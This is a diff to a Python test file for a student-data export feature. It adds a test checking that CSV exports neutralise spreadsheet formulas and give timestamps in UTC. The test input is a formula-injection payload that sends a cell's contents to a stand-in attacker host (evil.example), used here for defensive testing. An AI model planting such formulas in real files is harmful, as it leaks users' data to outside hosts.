@@ -1,7 +1,9 @@
 """One student's data: export it, delete it, anonymise it; purge attempts past retention."""
 
+import csv
 import io
 import json
+import re
 import zipfile
 from datetime import timedelta
 
@@ -110,6 +112,43 @@ def test_export_holds_every_attempt_answer_report_and_class(app, teacher, world)
     assert (
         len(attempts_csv) == 1 + 3 and len(archive.read("answers.csv").decode().splitlines()) == 22
     )
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+UTC_SECOND = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ")
+
+
+def test_data_zip_defuses_formulas_and_gives_times_in_utc_with_a_z(app, teacher, student, world):
+    """The class exports' guard and time format, in every CSV file of the zip (and the JSON)."""
+    in_progress = world["attempts"][2]
+    item = next(i for i in items(app, in_progress) if i.snapshot["kind"] == "short_text")
+    assert answer(student, in_progress, item, {"answer": FORMULA}).status_code == 303
+    with app.app_context():
+        db.session.add(
+            QuestionReport(
+                question_id=item.question_id, user_id=user_id(app, "alice"), message="@SUM(A1)"
+            )
+        )
+        db.session.commit()
+    url = base_url(app, world)
+    archive = zipfile.ZipFile(io.BytesIO(teacher.get(f"{url}/data.zip").data))
+    tables = {
+        name: list(csv.DictReader(io.StringIO(archive.read(name).decode())))
+        for name in archive.namelist()
+    }
+    assert "'" + FORMULA in [row["answer"] for row in tables["answers.csv"]]
+    assert "'@SUM(A1)" in [row["message"] for row in tables["reports.csv"]]
+    times = [
+        value
+        for rows in tables.values()
+        for row in rows
+        for column, value in row.items()
+        if column.endswith("_at") and value
+    ]
+    assert len(times) > 20 and all(UTC_SECOND.fullmatch(value) for value in times), times
+    data = json.loads(teacher.get(f"{url}/data.json").text)
+    assert UTC_SECOND.fullmatch(data["account"]["created_at"])
+    assert all(UTC_SECOND.fullmatch(a["started_at"]) for a in data["attempts"])
 
 
 def test_only_the_class_teacher_and_admins_reach_a_students_data(app, teacher, world):
